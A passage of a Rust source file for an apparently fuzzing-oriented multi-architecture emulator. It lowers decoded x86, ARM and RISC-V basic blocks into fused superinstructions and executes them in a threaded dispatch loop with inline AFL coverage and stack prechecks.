//! Threaded-code IR: hot basic blocks lowered to superinstructions.
//!
//! PR 3's fused blocks removed fetch/decode from the hot path but still
//! walk one [`CachedInsn`] at a time through the full `exec_insn` match,
//! paying the architectural pc write, enum-wrapped register accesses,
//! byte-at-a-time memory, and a coverage `Option` probe per instruction.
//! This module lowers each decoded block once into a linear array of
//! [`IrOp`] *superinstructions* executed by a tight dispatch loop:
//!
//! * **constant folding** — decoded operands become raw register
//!   indices and immediates; ARM's architectural `pc+8` reads fold to
//!   constants at build time;
//! * **run folding** — a run of identical ALU-immediate instructions
//!   (`inc eax; inc eax; …`) becomes one `AddImm` op carrying the total
//!   and an instruction count, since only the final value and flag are
//!   architecturally observable inside a straight line;
//! * **flag fusion** — `cmp`/`dec` followed by a conditional branch
//!   fuses into `CmpBr`/`DecBr`, so the zero flag is consumed where it
//!   is produced;
//! * **memory pre-check** — the block's push/pop stack traffic is
//!   range-checked against the permission map once per block entry
//!   (and per-op accesses use word-at-a-time checked fast paths),
//!   falling back to the canonical byte path whenever a check cannot be
//!   hoisted (redzone armed, region straddle, unknown sp);
//! * **inline coverage** — the AFL edge-map update runs once in the
//!   block-entry preamble with its hash premixed at build time,
//!   replacing the generic per-entry hook;
//! * **chained dispatch** — a constant branch target that is the
//!   current block restarts it without touching the cache (the
//!   self-loop fast path); any other constant target chains straight
//!   into its lowered block while budget remains.
//!
//! The contract is *byte-identical observable behaviour* versus block
//! and per-instruction dispatch: same outcomes, faults (including fault
//! pc fields and the pre-advanced pc convention), events, coverage map
//! (vs block mode) and `insn_count`, enforced by `tests/ir.rs` and the
//! unit suites. Invalidation reuses the decode cache's push model: the
//! IR table lives beside the block table and is dropped by the same
//! flushes, and the dispatch loop re-checks the flush generation after
//! every op that can write memory.

use std::sync::Arc;

use cml_image::Addr;

use crate::coverage::premix;
use crate::dcache::CachedInsn;
use crate::machine::{Machine, RunOutcome};
use crate::{arm, riscv, x86, Fault};

/// Sentinel register index meaning "no base register" (absolute
/// addressing / pc-relative folded to a constant).
const NO_BASE: u8 = 0xFF;

/// x86 stack-pointer index in the gpr file.
const ESP: u8 = 4;

/// ARM bitwise-immediate flavours (ARM data-processing sets no flags in
/// the supported subset).
#[derive(Debug, Clone, Copy)]
pub(crate) enum BitKind {
    /// `orr rd, rn, #imm`
    Orr,
    /// `and rd, rn, #imm`
    And,
    /// `eor rd, rn, #imm`
    Eor,
}

/// x86 register-register ALU flavours (all set the zero flag).
#[derive(Debug, Clone, Copy)]
pub(crate) enum AluKind {
    /// `xor r/m, r` (writes dst)
    Xor,
    /// `and r/m, r` (writes dst)
    And,
    /// `or r/m, r` (writes dst)
    Or,
    /// `cmp r/m, r` (flags only)
    Cmp,
    /// `test r/m, r` (flags only)
    Test,
}

/// One superinstruction. Register operands are raw indices into the
/// architectural register file ([`crate::Regs::gp`]); immediates and
/// branch targets are fully resolved at lowering time.
#[derive(Debug, Clone, Copy)]
pub(crate) enum IrOp {
    /// `nop`.
    Nop,
    /// `rd = imm` (also folds ARM `mvn` and pc-relative arithmetic).
    MovImm {
        /// Destination register index.
        rd: u8,
        /// The folded immediate.
        imm: u32,
    },
    /// x86 `mov r8, imm8`: replace the low byte of `rd`.
    MovLow8 {
        /// Destination register index.
        rd: u8,
        /// The byte.
        imm: u8,
    },
    /// `rd = rm`.
    MovReg {
        /// Destination register index.
        rd: u8,
        /// Source register index.
        rm: u8,
    },
    /// A folded run of `count` identical x86 ALU-immediate instructions
    /// on one register (`inc`/`dec`/`add`/`sub` imm8). `total` is the
    /// precomputed sum of the deltas; `delta` and `ilen` reconstruct a
    /// partial run when the step budget expires inside it.
    AddImm {
        /// Destination register index.
        rd: u8,
        /// Sum of all deltas in the run.
        total: u32,
        /// Per-instruction delta (two's complement).
        delta: u32,
        /// How many guest instructions the run folds.
        count: u8,
        /// Encoded length of each instruction in the run.
        ilen: u8,
        /// Whether the zero flag is set from the result.
        set_zf: bool,
    },
    /// ARM `add/sub rd, rn, #imm` (no flags).
    AddRegImm {
        /// Destination register index.
        rd: u8,
        /// Source register index.
        rn: u8,
        /// Delta (two's complement for `sub`).
        imm: u32,
    },
    /// ARM bitwise immediate (no flags).
    BitImm {
        /// Destination register index.
        rd: u8,
        /// Source register index.
        rn: u8,
        /// Immediate operand.
        imm: u32,
        /// Which operation.
        kind: BitKind,
    },
    /// x86 register-register ALU (sets the zero flag).
    AluRR {
        /// Destination register index (unwritten for `Cmp`/`Test`).
        dst: u8,
        /// Source register index.
        src: u8,
        /// Which operation.
        kind: AluKind,
    },
    /// `zf = (rn - imm == 0)` — x86 `cmp r, imm8` / ARM `cmp rn, #imm`.
    CmpImm {
        /// Register compared.
        rn: u8,
        /// Immediate subtrahend.
        imm: u32,
    },
    /// Shift by constant.
    ShiftImm {
        /// Destination register index.
        rd: u8,
        /// Source register index.
        rm: u8,
        /// Shift amount (masked to 31 like the interpreter).
        amount: u8,
        /// Left (`shl`/`lsl`) or right (`shr`).
        left: bool,
        /// x86 sets the zero flag; ARM `lsl` does not.
        set_zf: bool,
    },
    /// x86 `lea rd, [base + disp]`.
    Lea {
        /// Destination register index.
        rd: u8,
        /// Base register index.
        base: u8,
        /// Displacement.
        disp: i32,
    },
    /// Word or byte load, `rd = [base + disp]` (byte loads zero-extend).
    Load {
        /// Destination register index.
        rd: u8,
        /// Base register index, or [`NO_BASE`].
        base: u8,
        /// Displacement (holds the absolute address under [`NO_BASE`]).
        disp: i32,
        /// Byte-sized access.
        byte: bool,
    },
    /// Word or byte store, `[base + disp] = rs`.
    Store {
        /// Source register index.
        rs: u8,
        /// Base register index, or [`NO_BASE`].
        base: u8,
        /// Displacement (holds the absolute address under [`NO_BASE`]).
        disp: i32,
        /// Byte-sized access.
        byte: bool,
    },
    /// x86 `push r32`. `fast` marks eligibility for the prechecked
    /// stack path (sp still derivable from the entry sp).
    PushR {
        /// Pushed register index.
        r: u8,
        /// Covered by the block-entry stack precheck.
        fast: bool,
    },
    /// x86 `push imm32`.
    PushImm {
        /// Pushed immediate.
        imm: u32,
        /// Covered by the block-entry stack precheck.
        fast: bool,
    },
    /// x86 `pop r32`.
    PopR {
        /// Destination register index.
        r: u8,
        /// Covered by the block-entry stack precheck.
        fast: bool,
    },
    /// Unconditional constant-target jump (x86 `jmp rel`, ARM `b`).
    Jmp {
        /// Resolved target.
        target: Addr,
    },
    /// RISC-V register-compare branch (`beq`/`bne` — no flags register,
    /// the comparison and branch are one instruction).
    BrReg {
        /// Left comparand register index.
        rs1: u8,
        /// Right comparand register index.
        rs2: u8,
        /// Branch when the operands are equal (`beq`); inverted for
        /// `bne`.
        eq: bool,
        /// Resolved taken target.
        target: Addr,
        /// Fall-through address.
        fallthrough: Addr,
    },
    /// Conditional branch on the zero flag (taken when
    /// `zf == br_if_zf`).
    Br {
        /// Branch when the zero flag equals this.
        br_if_zf: bool,
        /// Resolved taken target.
        target: Addr,
        /// Fall-through address.
        fallthrough: Addr,
    },
    /// Fused `cmp rn, #imm` + conditional branch (two instructions).
    CmpBr {
        /// Register compared.
        rn: u8,
        /// Immediate subtrahend.
        imm: u32,
        /// Branch when the zero flag equals this.
        br_if_zf: bool,
        /// Resolved taken target.
        target: Addr,
        /// Fall-through address.
        fallthrough: Addr,
        /// pc of the branch instruction — where a budget that expires
        /// between the two halves leaves the machine.
        mid: Addr,
    },
    /// Fused single ALU-immediate (`dec`/`inc`/`add`/`sub` imm8) +
    /// conditional branch (two instructions).
    DecBr {
        /// ALU destination register index.
        rd: u8,
        /// ALU delta (two's complement).
        delta: u32,
        /// Branch when the zero flag equals this.
        br_if_zf: bool,
        /// Resolved taken target.
        target: Addr,
        /// Fall-through address.
        fallthrough: Addr,
        /// pc of the branch instruction (see [`IrOp::CmpBr::mid`]).
        mid: Addr,
    },
    /// Anything else: run the interpreter's `exec_insn` for this one
    /// instruction — the universal slow path (calls, returns, syscalls,
    /// read-modify-write memory operands, pc-destination writes, …).
    Exec {
        /// The decoded instruction.
        ci: CachedInsn,
    },
}

/// A lowered basic block: the op stream plus the parallel pc tables the
/// dispatcher needs only on early exits (budget expiry, faults, flush).
#[derive(Debug)]
pub(crate) struct IrBlock {
    /// Guest address of the first instruction.
    pub(crate) start: Addr,
    /// Total encoded bytes the block spans.
    pub(crate) span: u32,
    /// Premixed coverage hash of `start`, noted once per block entry in
    /// the dispatch preamble (the inlined edge-bitmap update).
    cov: u32,
    /// The superinstruction stream.
    ops: Vec<IrOp>,
    /// pc of each op's first guest instruction.
    pcs: Vec<Addr>,
    /// Fall-through pc after each op's last guest instruction.
    ends: Vec<Addr>,
    /// Lowest sp-relative byte the fast push/pop ops touch (≤ 0).
    stack_lo: i32,
    /// Size of the fast-op stack window; 0 disables the precheck.
    stack_len: u32,
}

/// Executes lowered IR starting at the current pc for up to `budget`
/// guest instructions, falling back to a single [`Machine::step`] when
/// no IR applies (hooked pc, undecodable bytes). Mirrors
/// `Machine::step_block`'s contract: returns instructions consumed and
/// the step result, leaving pc/insn_count exactly where per-instruction
/// dispatch would.
pub(crate) fn step_ir(m: &mut Machine, budget: u64) -> (u64, Result<Option<RunOutcome>, Fault>) {
    let start = m.regs.pc();
    if m.hooks.contains_key(&start) {
        return (1, m.step());
    }
    let block = match m.mem.dcache_get_ir(start) {
        Some(b) => b,
        None => match build_ir(m, start) {
            Some(b) => b,
            None => return (1, m.step()),
        },
    };
    let (used, res) = exec_ir(m, block, budget);
    m.insn_count += used;
    (used, res)
}

/// Decodes (via the shared block builder, so boundaries are identical
/// to block dispatch) and lowers the block at `start`.
fn build_ir(m: &mut Machine, start: Addr) -> Option<Arc<IrBlock>> {
    let block = m.build_block(start)?;
    let ir = Arc::new(lower(&block.insns, start));
    let span = ir.span;
    m.mem.dcache_insert_ir(start, Arc::clone(&ir), span);
    Some(ir)
}

/// The dispatch loop. `used` counts guest instructions; every exit path
/// leaves the pc exactly where per-instruction stepping would after the
/// same count (pre-advanced past a faulting instruction, at the first
/// unexecuted instruction on budget expiry, at the branch target on a
/// taken exit).
fn exec_ir(
    m: &mut Machine,
    mut block: Arc<IrBlock>,
    budget: u64,
) -> (u64, Result<Option<RunOutcome>, Fault>) {
    debug_assert!(budget > 0, "run() never dispatches with an empty budget");
    let gen = m.mem.dcache_generation();
    // Register-resident coverage flag: probing `Option<&mut _>` through
    // `&mut m` every block entry costs ~20% on tight self-loops, so the
    // presence test is hoisted and the borrow only taken when armed.
    let has_cov = m.cov.is_some();
    let mut used: u64 = 0;
    'blocks: loop {
        // Block-entry preamble: the inlined edge-bitmap update (hash
        // premixed at build time) and one stack-range probe that
        // licences the fast push/pop ops below to skip per-byte
        // permission checks.
        let cov = block.cov;
        if has_cov {
            if let Some(c) = &mut m.cov {
                c.note_premixed(cov);
            }
        }
        let stack_lo = block.stack_lo;
        let stack_len = block.stack_len;
        let mut stack_ok = stack_len > 0
            && m.mem
                .stack_precheck(m.regs.sp().wrapping_add(stack_lo as u32), stack_len);
        let start = block.start;
        let end = start.wrapping_add(block.span);
        let ops = &block.ops;
        let pcs = &block.pcs;
        let ends = &block.ends;
        let n = ops.len();
        let mut i = 0usize;

        // The labelled inner loop exists so `chain!`'s self-loop path
        // can restart the op walk (`i = 0; continue 'ops`) without
        // leaving the hoisted borrows above; it never falls through.
        #[allow(clippy::never_loop)]
        'ops: loop {
            /// Exits with the budget exhausted before op `i` executed.
            macro_rules! out_of_budget {
                () => {{
                    m.regs.set_pc(pcs[i]);
                    return (used, Ok(None));
                }};
            }
            /// Resolves a taken constant branch: self-loop, chain, or exit.
            macro_rules! chain {
                ($t:expr) => {{
                    let t = $t;
                    if used < budget {
                        if t == start {
                            // Self-loop fast path: the generation is
                            // unchanged (every write re-checks it), so the
                            // held block is still valid — rerun the entry
                            // preamble in place without touching the cache,
                            // the `Arc`, or the hook table.
                            if has_cov {
                                if let Some(c) = &mut m.cov {
                                    c.note_premixed(cov);
                                }
                            }
                            if stack_len > 0 {
                                stack_ok = m.mem.stack_precheck(
                                    m.regs.sp().wrapping_add(stack_lo as u32),
                                    stack_len,
                                );
                            }
                            i = 0;
                            continue 'ops;
                        }
                        if let Some(b) = m.mem.dcache_get_ir(t) {
                            // An IR hit is hook-free and current by
                            // construction (push invalidation).
                            block = b;
                            continue 'blocks;
                        }
                    }
                    m.regs.set_pc(t);
                    return (used, Ok(None));
                }};
            }

            while i < n {
                match ops[i] {
                    IrOp::Nop => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                    }
                    IrOp::MovImm { rd, imm } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        m.regs.set_gp(rd, imm);
                    }
                    IrOp::MovLow8 { rd, imm } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        let old = m.regs.gp(rd);
                        m.regs.set_gp(rd, (old & 0xFFFF_FF00) | imm as u32);
                    }
                    IrOp::MovReg { rd, rm } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        let v = m.regs.gp(rm);
                        m.regs.set_gp(rd, v);
                    }
                    IrOp::AddImm {
                        rd,
                        total,
                        delta,
                        count,
                        ilen,
                        set_zf,
                    } => {
                        let c = count as u64;
                        if used + c > budget {
                            // Partial run: execute the instructions that
                            // still fit, one delta each.
                            let r = budget - used;
                            if r == 0 {
                                out_of_budget!();
                            }
                            let v = m.regs.gp(rd).wrapping_add(delta.wrapping_mul(r as u32));
                            m.regs.set_gp(rd, v);
                            if set_zf {
                                m.regs.set_zf(v == 0);
                            }
                            m.regs.set_pc(pcs[i].wrapping_add(r as u32 * ilen as u32));
                            return (used + r, Ok(None));
                        }
                        used += c;
                        let v = m.regs.gp(rd).wrapping_add(total);
                        m.regs.set_gp(rd, v);
                        if set_zf {
                            m.regs.set_zf(v == 0);
                        }
                    }
                    IrOp::AddRegImm { rd, rn, imm } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        let v = m.regs.gp(rn).wrapping_add(imm);
                        m.regs.set_gp(rd, v);
                    }
                    IrOp::BitImm { rd, rn, imm, kind } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        let s = m.regs.gp(rn);
                        let v = match kind {
                            BitKind::Orr => s | imm,
                            BitKind::And => s & imm,
                            BitKind::Eor => s ^ imm,
                        };
                        m.regs.set_gp(rd, v);
                    }
                    IrOp::AluRR { dst, src, kind } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        let (d, s) = (m.regs.gp(dst), m.regs.gp(src));
                        let v = match kind {
                            AluKind::Xor => d ^ s,
                            AluKind::And | AluKind::Test => d & s,
                            AluKind::Or => d | s,
                            AluKind::Cmp => d.wrapping_sub(s),
                        };
                        if matches!(kind, AluKind::Xor | AluKind::And | AluKind::Or) {
                            m.regs.set_gp(dst, v);
                        }
                        m.regs.set_zf(v == 0);
                    }
                    IrOp::CmpImm { rn, imm } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        m.regs.set_zf(m.regs.gp(rn).wrapping_sub(imm) == 0);
                    }
                    IrOp::ShiftImm {
                        rd,
                        rm,
                        amount,
                        left,
                        set_zf,
                    } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        let s = m.regs.gp(rm);
                        let v = if left {
                            s.wrapping_shl(amount as u32 & 31)
                        } else {
                            s.wrapping_shr(amount as u32 & 31)
                        };
                        m.regs.set_gp(rd, v);
                        if set_zf {
                            m.regs.set_zf(v == 0);
                        }
                    }
                    IrOp::Lea { rd, base, disp } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        let v = m.regs.gp(base).wrapping_add(disp as u32);
                        m.regs.set_gp(rd, v);
                    }
                    IrOp::Load {
                        rd,
                        base,
                        disp,
                        byte,
                    } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        let b = if base == NO_BASE { 0 } else { m.regs.gp(base) };
                        let a = b.wrapping_add(disp as u32);
                        let res = if byte {
                            m.mem.read_u8(a, pcs[i]).map(u32::from)
                        } else {
                            m.mem.read_u32_ir(a, pcs[i])
                        };
                        match res {
                            Ok(v) => m.regs.set_gp(rd, v),
                            Err(f) => {
                                // `exec_insn` pre-advances the pc, so a
                                // faulting load leaves pc at fall-through.
                                m.regs.set_pc(ends[i]);
                                return (used, Err(f));
                            }
                        }
                    }
                    IrOp::Store {
                        rs,
                        base,
                        disp,
                        byte,
                    } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        let b = if base == NO_BASE { 0 } else { m.regs.gp(base) };
                        let a = b.wrapping_add(disp as u32);
                        let v = m.regs.gp(rs);
                        let res = if byte {
                            m.mem.write_u8(a, v as u8, pcs[i])
                        } else {
                            m.mem.write_u32_ir(a, v, pcs[i])
                        };
                        match res {
                            Ok(()) => {
                                if m.mem.dcache_generation() != gen {
                                    // Self-modifying store: abort like the
                                    // block dispatcher, pc at fall-through.
                                    m.regs.set_pc(ends[i]);
                                    return (used, Ok(None));
                                }
                            }
                            Err(f) => {
                                m.regs.set_pc(ends[i]);
                                return (used, Err(f));
                            }
                        }
                    }
                    IrOp::PushR { r, fast } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        let v = m.regs.gp(r);
                        let sp = m.regs.sp().wrapping_sub(4);
                        if fast && stack_ok && m.mem.stack_write_u32(sp, v) {
                            m.regs.set_sp(sp);
                        } else {
                            // Slow path replicates `push_u32`: the fault pc
                            // is the already-advanced next pc.
                            match m.mem.write_u32_ir(sp, v, ends[i]) {
                                Ok(()) => {
                                    m.regs.set_sp(sp);
                                    if m.mem.dcache_generation() != gen {
                                        m.regs.set_pc(ends[i]);
                                        return (used, Ok(None));
                                    }
                                }
                                Err(f) => {
                                    m.regs.set_pc(ends[i]);
                                    return (used, Err(f));
                                }
                            }
                        }
                    }
                    IrOp::PushImm { imm, fast } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        let sp = m.regs.sp().wrapping_sub(4);
                        if fast && stack_ok && m.mem.stack_write_u32(sp, imm) {
                            m.regs.set_sp(sp);
                        } else {
                            match m.mem.write_u32_ir(sp, imm, ends[i]) {
                                Ok(()) => {
                                    m.regs.set_sp(sp);
                                    if m.mem.dcache_generation() != gen {
                                        m.regs.set_pc(ends[i]);
                                        return (used, Ok(None));
                                    }
                                }
                                Err(f) => {
                                    m.regs.set_pc(ends[i]);
                                    return (used, Err(f));
                                }
                            }
                        }
                    }
                    IrOp::PopR { r, fast } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        let sp = m.regs.sp();
                        let v = if fast && stack_ok {
                            match m.mem.stack_read_u32(sp) {
                                Some(v) => v,
                                None => match m.mem.read_u32_ir(sp, ends[i]) {
                                    Ok(v) => v,
                                    Err(f) => {
                                        m.regs.set_pc(ends[i]);
                                        return (used, Err(f));
                                    }
                                },
                            }
                        } else {
                            match m.mem.read_u32_ir(sp, ends[i]) {
                                Ok(v) => v,
                                Err(f) => {
                                    m.regs.set_pc(ends[i]);
                                    return (used, Err(f));
                                }
                            }
                        };
                        // sp first, then the register write — `pop esp`
                        // must end with esp = the popped value.
                        m.regs.set_sp(sp.wrapping_add(4));
                        m.regs.set_gp(r, v);
                    }
                    IrOp::Jmp { target } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        chain!(target);
                    }
                    IrOp::BrReg {
                        rs1,
                        rs2,
                        eq,
                        target,
                        fallthrough,
                    } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        let t = if (m.regs.gp(rs1) == m.regs.gp(rs2)) == eq {
                            target
                        } else {
                            fallthrough
                        };
                        chain!(t);
                    }
                    IrOp::Br {
                        br_if_zf,
                        target,
                        fallthrough,
                    } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        let t = if m.regs.zf() == br_if_zf {
                            target
                        } else {
                            fallthrough
                        };
                        chain!(t);
                    }
                    IrOp::CmpBr {
                        rn,
                        imm,
                        br_if_zf,
                        target,
                        fallthrough,
                        mid,
                    } => {
                        if used + 2 > budget {
                            if used >= budget {
                                out_of_budget!();
                            }
                            // Room for the compare half only.
                            m.regs.set_zf(m.regs.gp(rn).wrapping_sub(imm) == 0);
                            m.regs.set_pc(mid);
                            return (used + 1, Ok(None));
                        }
                        used += 2;
                        let zf = m.regs.gp(rn).wrapping_sub(imm) == 0;
                        m.regs.set_zf(zf);
                        let t = if zf == br_if_zf { target } else { fallthrough };
                        chain!(t);
                    }
                    IrOp::DecBr {
                        rd,
                        delta,
                        br_if_zf,
                        target,
                        fallthrough,
                        mid,
                    } => {
                        if used + 2 > budget {
                            if used >= budget {
                                out_of_budget!();
                            }
                            // Room for the ALU half only.
                            let v = m.regs.gp(rd).wrapping_add(delta);
                            m.regs.set_gp(rd, v);
                            m.regs.set_zf(v == 0);
                            m.regs.set_pc(mid);
                            return (used + 1, Ok(None));
                        }
                        used += 2;
                        let v = m.regs.gp(rd).wrapping_add(delta);
                        m.regs.set_gp(rd, v);
                        let zf = v == 0;
                        m.regs.set_zf(zf);
                        let t = if zf == br_if_zf { target } else { fallthrough };
                        chain!(t);
                    }
                    IrOp::Exec { ci } => {
                        if used >= budget {
                            out_of_budget!();
                        }
                        used += 1;
                        let res = match ci {
                            CachedInsn::X86(insn, len) => {
                                x86::exec_insn(m, insn, len as usize, pcs[i])
                            }
                            CachedInsn::Arm(insn) => arm::exec_insn(m, insn, pcs[i]),
                            CachedInsn::Riscv(insn, len) => {
                                riscv::exec_insn(m, insn, len as usize, pcs[i])
                            }
                        };
                        match res {
                            Ok(None) => {}
                            terminal => return (used, terminal),
                        }
                        if m.regs.pc() != ends[i] || m.mem.dcache_generation() != gen {
                            // Taken branch or cache flush: pc is already
                            // architecturally correct — hand back to run().
                            return (used, Ok(None));
                        }
                    }
                }
                i += 1;
            }
            // Natural block end without a terminator (MAX_BLOCK, decode
            // boundary, mid-block hook): fall through.
            m.regs.set_pc(end);
            return (used, Ok(None));
        } // 'ops
    }
}

/// Build-time state for one block's lowering.
struct Lowerer {
    ops: Vec<IrOp>,
    pcs: Vec<Addr>,
    ends: Vec<Addr>,
    /// Whether sp is still the entry sp plus `sp_off` (no Exec op or
    /// sp-writing ALU op seen yet) — the licence for fast push/pop.
    sp_known: bool,
    /// Current sp offset from the entry sp, while `sp_known`.
    sp_off: i32,
    /// Stack-window extents (sp-relative) the fast ops touch.
    lo: i32,
    hi: i32,
}

impl Lowerer {
    fn emit(&mut self, op: IrOp, pc: Addr, next: Addr) {
        self.ops.push(op);
        self.pcs.push(pc);
        self.ends.push(next);
    }

    /// Emits an op that writes register `rd`; a write to the stack
    /// pointer ends sp tracking for later push/pop ops.
    fn emit_w(&mut self, op: IrOp, pc: Addr, next: Addr, rd: u8) {
        self.emit(op, pc, next);
        if rd == ESP {
            self.sp_known = false;
        }
    }

    /// Emits the universal fallback; native semantics may move sp
    /// arbitrarily (leave, ret, syscalls), so tracking stops.
    fn exec(&mut self, ci: CachedInsn, pc: Addr, next: Addr) {
        self.sp_known = false;
        self.emit(IrOp::Exec { ci }, pc, next);
    }

    /// Accounts a fast push's write window.
    fn note_push(&mut self) {
        self.sp_off -= 4;
        self.lo = self.lo.min(self.sp_off);
        self.hi = self.hi.max(self.sp_off + 4);
    }

    /// Accounts a fast pop's read window.
    fn note_pop(&mut self) {
        self.lo = self.lo.min(self.sp_off);
        self.hi = self.hi.max(self.sp_off + 4);
        self.sp_off += 4;
    }

    /// Emits an x86 ALU-immediate, folding it into an immediately
    /// preceding identical one (same register, delta and encoding
    /// length, so partial-budget replay stays exact).
    fn add_imm(&mut self, rd: u8, delta: u32, ilen: u8, pc: Addr, next: Addr) {
        if let Some(IrOp::AddImm {
            rd: prd,
            total,
            delta: pdelta,
            count,
            ilen: pilen,
            ..
        }) = self.ops.last_mut()
        {
            if *prd == rd && *pdelta == delta && *pilen == ilen && *count < u8::MAX {
                *total = total.wrapping_add(delta);
                *count += 1;
                *self.ends.last_mut().expect("parallel to ops") = next;
                return;
            }
        }
        self.emit(
            IrOp::AddImm {
                rd,
                total: delta,
                delta,
                count: 1,
                ilen,
                set_zf: true,
            },
            pc,
            next,
        );
        if rd == ESP {
            self.sp_known = false;
        }
    }

    /// Emits a conditional branch, fusing it with an immediately
    /// preceding `cmp` or single ALU-immediate (both set the flag the
    /// branch consumes).
    fn br(&mut self, br_if_zf: bool, target: Addr, pc: Addr, next: Addr) {
        let fused = match self.ops.last().copied() {
            Some(IrOp::CmpImm { rn, imm }) => Some(IrOp::CmpBr {
                rn,
                imm,
                br_if_zf,
                target,
                fallthrough: next,
                mid: pc,
            }),
            Some(IrOp::AddImm {
                rd,
                delta,
                count: 1,
                set_zf: true,
                ..
            }) => Some(IrOp::DecBr {
                rd,
                delta,
                br_if_zf,
                target,
                fallthrough: next,
                mid: pc,
            }),
            _ => None,
        };
        match fused {
            Some(op) => {
                *self.ops.last_mut().expect("fusion peeked last") = op;
                *self.ends.last_mut().expect("parallel to ops") = next;
            }
            None => self.emit(
                IrOp::Br {
                    br_if_zf,
                    target,
                    fallthrough: next,
                },
                pc,
                next,
            ),
        }
    }
}

/// Lowers a decoded block (shared boundaries with block dispatch — same
/// builder) into an [`IrBlock`].
pub(crate) fn lower(insns: &[CachedInsn], start: Addr) -> IrBlock {
    let mut lw = Lowerer {
        ops: Vec::with_capacity(insns.len() + 1),
        pcs: Vec::with_capacity(insns.len() + 1),
        ends: Vec::with_capacity(insns.len() + 1),
        sp_known: true,
        sp_off: 0,
        lo: 0,
        hi: 0,
    };
    let mut pc = start;
    for &ci in insns {
        let next = pc.wrapping_add(ci.byte_len());
        match ci {
            CachedInsn::X86(insn, len) => lower_x86(&mut lw, insn, len, pc, next),
            CachedInsn::Arm(insn) => lower_arm(&mut lw, insn, pc, next),
            CachedInsn::Riscv(insn, len) => lower_riscv(&mut lw, insn, len, pc, next),
        }
        pc = next;
    }
    IrBlock {
        start,
        span: pc.wrapping_sub(start),
        cov: premix(start),
        ops: lw.ops,
        pcs: lw.pcs,
        ends: lw.ends,
        stack_lo: lw.lo,
        stack_len: (lw.hi - lw.lo) as u32,
    }
}

fn lower_x86(lw: &mut Lowerer, insn: x86::Insn, ilen: u8, pc: Addr, next: Addr) {
    use x86::{Insn as I, Operand as O};
    match insn {
        I::Nop => lw.emit(IrOp::Nop, pc, next),
        I::PushR(r) => {
            let fast = lw.sp_known;
            if fast {
                lw.note_push();
            }
            lw.emit(IrOp::PushR { r: r.bits(), fast }, pc, next);
        }
        I::PushImm(imm) => {
            let fast = lw.sp_known;
            if fast {
                lw.note_push();
            }
            lw.emit(IrOp::PushImm { imm, fast }, pc, next);
        }
        I::PopR(r) => {
            let fast = lw.sp_known && r.bits() != ESP;
            if fast {
                lw.note_pop();
            }
            lw.emit(IrOp::PopR { r: r.bits(), fast }, pc, next);
            if r.bits() == ESP {
                lw.sp_known = false;
            }
        }
        I::MovRImm(r, imm) => lw.emit_w(IrOp::MovImm { rd: r.bits(), imm }, pc, next, r.bits()),
        I::MovR8Imm(r, imm) => lw.emit_w(IrOp::MovLow8 { rd: r.bits(), imm }, pc, next, r.bits()),
        I::MovRmR {
            dst: O::Reg(d),
            src,
        } => lw.emit_w(
            IrOp::MovReg {
                rd: d.bits(),
                rm: src.bits(),
            },
            pc,
            next,
            d.bits(),
        ),
        I::MovRmR {
            dst: O::Mem { base, disp },
            src,
        } => lw.emit(
            IrOp::Store {
                rs: src.bits(),
                base: base.map_or(NO_BASE, |b| b.bits()),
                disp,
                byte: false,
            },
            pc,
            next,
        ),
        I::MovRRm {
            dst,
            src: O::Reg(s),
        } => lw.emit_w(
            IrOp::MovReg {
                rd: dst.bits(),
                rm: s.bits(),
            },
            pc,
            next,
            dst.bits(),
        ),
        I::MovRRm {
            dst,
            src: O::Mem { base, disp },
        } => lw.emit_w(
            IrOp::Load {
                rd: dst.bits(),
                base: base.map_or(NO_BASE, |b| b.bits()),
                disp,
                byte: false,
            },
            pc,
            next,
            dst.bits(),
        ),
        I::XorRmR {
            dst: O::Reg(d),
            src,
        } => lw.emit_w(
            IrOp::AluRR {
                dst: d.bits(),
                src: src.bits(),
                kind: AluKind::Xor,
            },
            pc,
            next,
            d.bits(),
        ),
        I::AndRmR {
            dst: O::Reg(d),
            src,
        } => lw.emit_w(
            IrOp::AluRR {
                dst: d.bits(),
                src: src.bits(),
                kind: AluKind::And,
            },
            pc,
            next,
            d.bits(),
        ),
        I::OrRmR {
            dst: O::Reg(d),
            src,
        } => lw.emit_w(
            IrOp::AluRR {
                dst: d.bits(),
                src: src.bits(),
                kind: AluKind::Or,
            },
            pc,
            next,
            d.bits(),
        ),
        I::CmpRmR {
            dst: O::Reg(d),
            src,
        } => lw.emit(
            IrOp::AluRR {
                dst: d.bits(),
                src: src.bits(),
                kind: AluKind::Cmp,
            },
            pc,
            next,
        ),
        I::TestRmR {
            dst: O::Reg(d),
            src,
        } => lw.emit(
            IrOp::AluRR {
                dst: d.bits(),
                src: src.bits(),
                kind: AluKind::Test,
            },
            pc,
            next,
        ),
        I::AddRmImm8 {
            dst: O::Reg(d),
            imm,
        } => lw.add_imm(d.bits(), imm as i32 as u32, ilen, pc, next),
        I::SubRmImm8 {
            dst: O::Reg(d),
            imm,
        } => lw.add_imm(d.bits(), (imm as i32 as u32).wrapping_neg(), ilen, pc, next),
        I::IncR(r) => lw.add_imm(r.bits(), 1, ilen, pc, next),
        I::DecR(r) => lw.add_imm(r.bits(), 1u32.wrapping_neg(), ilen, pc, next),
        I::CmpRmImm8 {
            dst: O::Reg(d),
            imm,
        } => lw.emit(
            IrOp::CmpImm {
                rn: d.bits(),
                imm: imm as i32 as u32,
            },
            pc,
            next,
        ),
